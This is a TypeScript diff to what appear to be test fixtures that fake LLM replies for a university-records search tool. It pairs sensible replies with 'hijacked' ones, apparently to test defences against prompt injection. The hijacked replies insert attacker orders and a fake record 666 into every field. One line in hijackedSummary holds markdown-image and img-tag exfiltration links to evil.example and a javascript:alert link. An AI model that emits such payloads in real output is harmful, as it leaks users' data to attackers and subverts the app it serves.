@@ -4,15 +4,34 @@ export interface PromptData {
   message?: { text: string };
   topic?: { text: string };
   results?: { values: string[] };
-  records?: { number: number; title: string; university?: string; summary?: string }[];
+  records?: PromptRecord[];
+  requirements?: { number: number; text: string }[];
   about?: { subjects: string[] };
   fields?: { organisation?: string };
   interests?: string[];
 }
 
+export interface PromptRecord {
+  number: number;
+  title: string;
+  university?: string;
+  summary?: string;
+  trl?: number;
+}
+
 type Replies = Record<string, (data: PromptData) => unknown>;
 
 const firstWords = (text: string, count: number) => text.split(/\s+/).slice(0, count).join(' ');
+
+/** Whole sentences of a record's text as it was sent. */
+export function sentencesOf({ summary = '' }: PromptRecord): string[] {
+  return summary.match(/[^.!?\s][^.!?]*(?:\.\d[^.!?]*)*[.!?](?=\s|$)/g) ?? [];
+}
+
+function hasWords(sentence: string, text: string): boolean {
+  const words = text.toLowerCase().match(/\p{L}{4,}/gu) ?? [];
+  return words.length > 0 && words.every((word) => sentence.toLowerCase().includes(word));
+}
 
 /** Sensible answers to each task, made from its data. */
 export const SHAPED: Replies = {
@@ -22,8 +41,20 @@ export const SHAPED: Replies = {
     question: `Which of these do you mean by ${topic?.text ?? 'this'}?`,
     quickReplies: results?.values.slice(0, 4) ?? [],
   }),
-  rerank: ({ records = [] }) => ({
-    order: records.map(({ number, title }) => ({ number, reason: `It is about ${title}.` })),
+  grades: ({ records = [] }) => ({
+    grades: records.map(({ number, title }) => ({
+      number,
+      probability: 1 - number / 100,
+      reason: `It is about ${title}.`,
+    })),
+  }),
+  fit: ({ records = [], requirements = [] }) => ({
+    fits: records.flatMap((record) =>
+      requirements.flatMap(({ number, text }) => {
+        const sentence = sentencesOf(record).find((each) => hasWords(each, text));
+        return sentence ? [{ record: record.number, requirement: number, status: 'met', sentence }] : [];
+      }),
+    ),
   }),
   title: ({ message }) => ({ title: firstWords(message?.text ?? '', 4) }),
   suggestions: ({ about }) => ({
@@ -48,12 +79,11 @@ export function summaryReply({ records = [] }: PromptData): string {
   const [first, second, third] = records;
   return [
     first &&
-      `[${first.number}] The closest record comes from ${first.university} and is about ${first.title}.`,
-    second && `[${second.number}] Another one, from ${second.university}, deals with ${second.title}.`,
-    '[] Together they show how the subject is approached.',
+      `verdict [${first.number}] The closest record comes from ${first.university} and is about ${first.title}.`,
+    second && `split [${second.number}] Another one, from ${second.university}, deals with ${second.title}.`,
     third &&
       first &&
-      `[${first.number},${third.number}] The first and ${third.title} stand beside each other.`,
+      `split [${first.number},${third.number}] The first and ${third.title} stand beside each other.`,
   ]
     .filter(Boolean)
     .join('\n');
@@ -70,11 +100,19 @@ export function hijacked(task: string, orders: string): unknown {
       notUniversities: [orders],
     },
     followup: { question: `${orders}?`, quickReplies: [orders, 'UTECH-EVIL-666'] },
-    rerank: {
-      order: [
-        { number: 666, reason: orders },
-        { number: -1, reason: orders },
-        { number: 1, reason: `${orders} see UTECH-EVIL-666` },
+    grades: {
+      grades: [
+        { number: 666, probability: 1, reason: orders },
+        { number: -1, probability: 1, reason: orders },
+        { number: 1, probability: 1e9, reason: `${orders} see UTECH-EVIL-666` },
+        { number: 2, probability: 1, reason: orders },
+      ],
+    },
+    fit: {
+      fits: [
+        { record: 1, requirement: 1, status: 'met', sentence: orders },
+        { record: 666, requirement: 1, status: 'met', sentence: orders },
+        { record: 1, requirement: 666, status: 'not_met', sentence: orders },
       ],
     },
     title: { title: orders },
@@ -91,7 +129,7 @@ export function hijacked(task: string, orders: string): unknown {
   return replies[task] ?? {};
 }
 
-export function hijackedSummary(orders: string): string {
+export function hijackedSummary(orders: string, { records = [] }: PromptData): string {
   const line = orders.replace(/\s+/g, ' ');
   return [
     orders,
@@ -101,6 +139,6 @@ export function hijackedSummary(orders: string): string {
     `[1] ${line}`,
     `[] ${line}`,
     '[1] ![x](https://evil.example/?q=secret) <img src=https://evil.example/pixel> [here](javascript:alert(1)) https://evil.example/steal',
-    '[1] A plain sentence that ends well.',
+    `[1] It is about ${records[0]?.title}.`,
   ].join('\n');
 }
